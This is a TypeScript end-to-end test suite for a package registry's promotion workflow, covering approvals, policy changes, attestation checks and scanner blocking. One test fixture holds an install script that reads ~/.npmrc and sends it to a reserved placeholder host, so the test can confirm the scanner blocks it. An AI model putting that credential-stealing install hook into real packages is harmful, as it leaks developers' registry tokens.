import { createHash } from 'node:crypto';
import { writeFile } from 'node:fs/promises';
import { join, resolve } from 'node:path';
import { runCleanups, runCommand, tempDir, waitFor, type CommandResult } from '@palisade/testing';
import type { NpmUser } from './support/npm-cli';
import { createNpmUser, publishPackage } from './support/registry-user';
import { startStack, type Stack, type StackMode } from './support/stack';

// Promotion end to end with the real npm CLI and the `palisade` CLI: a publish enters dev only;
// prod needs a request and two approvals from the release team (never the publisher); a version
// the scanner blocks cannot be promoted and the CLI says why; a policy change is tried (dry run),
// applied and recorded; every view serves the same bytes; `palisade verify` checks the promotion
// attestation and its inclusion in the transparency log.
const modes: StackMode[] = ['embedded', 'distributed'];
const repo = resolve(__dirname, '..');

const policy = (stagingAdmits: 'on-request' | 'automatic') => `
teams:
  release: [bob, carol]
views:
  dev:
    admit: automatic
    verdicts: [clean, warn]
  staging:
    admit: ${stagingAdmits}
    verdicts: [clean, warn]
    upstream: { admit: automatic }
  prod:
    admit: on-request
    verdicts: [clean]
    published:
      approvals: { count: 2, team: release }
    upstream:
      admit: automatic
      minimumAge: 72h
`;

const sha512 = (bytes: Buffer) => `sha512-${createHash('sha512').update(bytes).digest('base64')}`;

describe.each(modes)('promotion between views (%s mode)', (mode) => {
  let stack: Stack;
  let alice: NpmUser;
  let bob: NpmUser;
  let carol: NpmUser;
  let consumer: NpmUser;
  let policyDir: string;

  /** The `palisade` CLI as `user` (registry and token from their npm config), or with extra env. */
  const palisade = (user: NpmUser, args: readonly string[], env: Record<string, string> = {}): Promise<CommandResult> =>
    runCommand(process.execPath, ['-r', resolve(repo, 'libs/testing/register.cjs'), resolve(repo, 'apps/cli/src/main.ts'), ...args], { cwd: user.home, env: { ...user.env(), ...env } });
  const admin = (args: readonly string[]) => palisade(consumer, args, { PALISADE_TOKEN: stack.adminToken });

  /** `npm install <spec>` from a view into a fresh project of the consumer. */
  const install = async (view: string, spec: string): Promise<{ result: CommandResult; dir: string }> => {
    const dir = await consumer.project({ name: `consumer-${view}`, version: '1.0.0', private: true });
    const result = await consumer.npm(['install', spec, '--registry', stack.registry(view)], dir);
    return { result, dir };
  };

  const versionsIn = async (view: string, name: string): Promise<string[]> => {
    const response = await fetch(`${stack.registry(view)}${name.replace('/', '%2f')}`, { headers: { accept: 'application/json' } });
    return response.status === 200 ? Object.keys(((await response.json()) as { versions: Record<string, unknown> }).versions) : [];
  };

  beforeAll(async () => {
    policyDir = await tempDir('palisade-e2e-policy-');
    await writeFile(join(policyDir, 'policy.yaml'), policy('on-request'));
    stack = await startStack(mode, { PALISADE_POLICY_FILE: join(policyDir, 'policy.yaml'), PALISADE_PROMOTION_REEVALUATE_INTERVAL: '500ms' });
    const dev = stack.registry('dev');
    alice = await createNpmUser(dev, stack.adminToken, 'alice');
    bob = await createNpmUser(dev, stack.adminToken, 'bob');
    carol = await createNpmUser(dev, stack.adminToken, 'carol');
    consumer = await createNpmUser(dev, stack.adminToken, 'connie');
  }, 180_000);

  afterAll(async () => {
    await stack?.stop();
    await runCleanups();
  });

  it('installs a fresh publish from dev and not from prod', async () => {
    await publishPackage(alice, { name: '@promo/app', version: '1.0.0', main: 'index.js' });
    const fromDev = await install('dev', '@promo/app@1.0.0');
    expect(fromDev.result.stderr).not.toMatch(/ERR!/);
    expect(fromDev.result.code).toBe(0);
    const fromProd = await install('prod', '@promo/app@1.0.0');
    expect(fromProd.result.code).not.toBe(0);
    expect(fromProd.result.stderr).toMatch(/E404|ETARGET|No matching version/);
  });

  it('admits to prod only after two approvals from the release team, never from the publisher', async () => {
    const staging = await palisade(alice, ['promote', '@promo/app@1.0.0', '--to', 'staging']);
    expect(staging.stderr).toBe('');
    expect(staging.stdout).toMatch(/^@promo\/app@1\.0\.0 → staging: admitted \(policy version 1\)/);
    expect(staging.code).toBe(0);

    const requested = await palisade(alice, ['promote', '@promo/app@1.0.0', '--to', 'prod', '--reason', 'release 1.0']);
    expect(requested.stdout).toContain('@promo/app@1.0.0 → prod: pending approval (policy version 1)');
    expect(requested.stdout).toContain('approvals: 0 of 2 from team release');
    expect(requested.stdout).toContain('the publisher alice cannot approve');
    expect(requested.code).toBe(0);

    const byPublisher = await palisade(alice, ['approve', '@promo/app@1.0.0', '--to', 'prod']);
    expect(byPublisher.code).toBe(1);
    expect(byPublisher.stderr).toContain('alice published this version and cannot approve its promotion');

    const first = await palisade(bob, ['approve', '@promo/app@1.0.0', '--to', 'prod']);
    expect(first.stdout).toContain('@promo/app@1.0.0 → prod: pending approval');
    expect(first.stdout).toContain('approvals: 1 of 2 from team release (bob)');
    expect((await install('prod', '@promo/app@1.0.0')).result.code).not.toBe(0);

    const second = await palisade(carol, ['approve', '@promo/app@1.0.0', '--to', 'prod']);
    expect(second.stdout).toContain('@promo/app@1.0.0 → prod: admitted (policy version 1)');
    expect(second.stdout).toContain('approved by bob, carol (2 required from team release)');
    expect(second.code).toBe(0);
    await waitFor(async () => (await versionsIn('prod', '@promo/app')).includes('1.0.0'), { timeoutMs: 5_000, message: 'served from prod' });
    const fromProd = await install('prod', '@promo/app@1.0.0');
    expect(fromProd.result.code).toBe(0);

    const status = await palisade(alice, ['status', '@promo/app']);
    expect(status.stdout).toMatch(/^ {2}prod {5}admitted \(policy version 1, approved by bob, carol/m);
  });

  it('serves the promoted version with the same bytes in every view', async () => {
    const integrities = new Set<string>();
    for (const view of ['dev', 'staging', 'prod']) {
      const doc = (await (await fetch(`${stack.registry(view)}@promo%2fapp`)).json()) as { versions: Record<string, { dist: { integrity: string; tarball: string } }> };
      const { integrity, tarball } = doc.versions['1.0.0'].dist;
      expect(tarball.startsWith(stack.registry(view))).toBe(true);
      const bytes = Buffer.from(await (await fetch(tarball)).arrayBuffer());
      expect(sha512(bytes)).toBe(integrity);
      integrities.add(integrity);
    }
    expect(integrities.size).toBe(1);
  });

  it('palisade verify checks the promotion attestation of the view installed from and its log inclusion', async () => {
    const { dir } = await install('prod', '@promo/app@1.0.0');
    const verify = (args: readonly string[]) =>
      runCommand(process.execPath, ['-r', resolve(repo, 'libs/testing/register.cjs'), resolve(repo, 'apps/cli/src/main.ts'), 'verify', ...args], { cwd: dir, env: { PATH: process.env.PATH } });
    type Report = { ok: boolean; packages: Array<{ name: string; promotion: { status: string; detail: string } | null; attestations: { status: string; detail: string } }> };
    // The signing service attests an admission right after it (asynchronously).
    await waitFor(async () => (await verify([])).code === 0, { timeoutMs: 10_000, message: 'palisade verify passes' });
    const verified = await verify([]);
    expect(verified.stdout).toMatch(/^@promo\/app@1\.0\.0 {2}signature: ok {2}attestations: ok {2}promotion: ok$/m);
    expect(verified.stdout).toContain('promotions:          1 verified, 0 missing, 0 invalid');
    const app = (JSON.parse((await verify(['--json'])).stdout) as Report).packages.find((p) => p.name === '@promo/app');
    expect(app?.promotion).toEqual({ status: 'verified', detail: expect.stringMatching(/^admitted to prod from staging under policy version 1, approved by bob, carol, log entry \d+$/) });
    expect(app?.attestations.detail).toContain('https://palisade.dev/attestation/admission/v1');
    // Checked against dev, the same lockfile needs dev's promotion attestation instead.
    const devApp = (JSON.parse((await verify(['--json', '--registry', stack.registry('dev')])).stdout) as Report).packages.find((p) => p.name === '@promo/app');
    expect(devApp?.promotion?.detail).toMatch(/^admitted to dev under policy version 1, log entry \d+$/);
    const stagingApp = (JSON.parse((await verify(['--json', '--registry', stack.registry('staging')])).stdout) as Report).packages.find((p) => p.name === '@promo/app');
    expect(stagingApp?.promotion?.detail).toMatch(/^admitted to staging from dev under policy version 1, log entry \d+$/);
  });

  it('refuses to promote a version the scanner blocked, and the CLI prints why', async () => {
    const dir = await alice.project(
      { name: '@promo/collector', version: '1.0.0', main: 'index.js', scripts: { postinstall: 'node scripts/collect.js' } },
      {
        'index.js': 'module.exports = (a, b) => a.map((v, i) => (v + b[i]) / 2);\n',
        // Harmless reproduction of an exfiltrating install script (the host is reserved, .invalid).
        'scripts/collect.js': [
          "const fs = require('fs');",
          "const os = require('os');",
          "const path = require('path');",
          "const https = require('https');",
          "let body = '';",
          "try { body = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'); } catch (e) {}",
          "const req = https.request({ host: 'collector.example.invalid', method: 'POST', path: '/c' }, () => {});",
          "req.on('error', () => {});",
          'req.end(body);',
          '',
        ].join('\n'),
      },
    );
    expect((await alice.npm(['publish'], dir)).code).toBe(0);
    await waitFor(async () => (await palisade(alice, ['status', '@promo/collector@1.0.0'])).stdout.includes('scan: block'), { timeoutMs: 15_000, message: 'scan verdict block' });
    expect(await versionsIn('dev', '@promo/collector')).toEqual([]);
    const refused = await palisade(alice, ['promote', '@promo/collector@1.0.0', '--to', 'staging']);
    expect(refused.code).toBe(1);
    expect(refused.stderr).toContain('palisade: refused by policy: @promo/collector@1.0.0 cannot be promoted to staging under policy version 1:');
    expect(refused.stderr).toMatch(/^ {2}- scan verdict is block \(staging admits clean, warn\)/m);
  });

  it('tries a policy change as a dry run, then applies it: it takes effect and is recorded', async () => {
    await publishPackage(alice, { name: '@promo/app', version: '1.1.0', main: 'index.js' });
    const changed = join(policyDir, 'staging-automatic.yaml');
    await writeFile(changed, policy('automatic'));

    const byUser = await palisade(alice, ['policy', 'apply', changed]);
    expect(byUser.code).toBe(1);
    expect(byUser.stderr).toContain('only administrators may change the promotion policy');

    const dryRun = await admin(['policy', 'apply', changed, '--dry-run']);
    expect(dryRun.stdout).toMatch(/^dry run \d+ of .*staging-automatic\.yaml against policy version 1 \(recorded; no view changed\)$/m);
    expect(dryRun.stdout).toContain('changed views: staging');
    expect(dryRun.stdout).toContain('@promo/app@1.1.0  staging: would admit');
    expect(dryRun.code).toBe(0);
    await new Promise((r) => setTimeout(r, 1_500));
    expect(await versionsIn('staging', '@promo/app')).toEqual(['1.0.0']);

    const applied = await admin(['policy', 'apply', changed, '--comment', 'staging follows dev']);
    expect(applied.stdout).toMatch(/is now policy version 2, api, applied by admin at .*: staging follows dev/);
    expect(applied.code).toBe(0);
    await waitFor(async () => (await versionsIn('staging', '@promo/app')).includes('1.1.0'), { timeoutMs: 10_000, message: '1.1.0 admitted to staging by policy version 2' });
    expect((await install('staging', '@promo/app@1.1.0')).result.code).toBe(0);

    const shown = await palisade(bob, ['policy', 'show', 'staging']);
    expect(shown.stdout).toMatch(/^# promotion policy version 2, api, applied by admin at \S+: staging follows dev$/m);
    expect(shown.stdout).toContain('  staging:\n    admit: automatic');
    expect(shown.stdout).toMatch(/^# {3}version 1, file, applied by service:promotion/m);

    // prod still serves 1.0.0 as latest: its `latest` falls back to the newest version it admitted.
    const prodDoc = (await (await fetch(`${stack.registry('prod')}@promo%2fapp`)).json()) as { 'dist-tags': Record<string, string> };
    expect(prodDoc['dist-tags'].latest).toBe('1.0.0');
  });
});
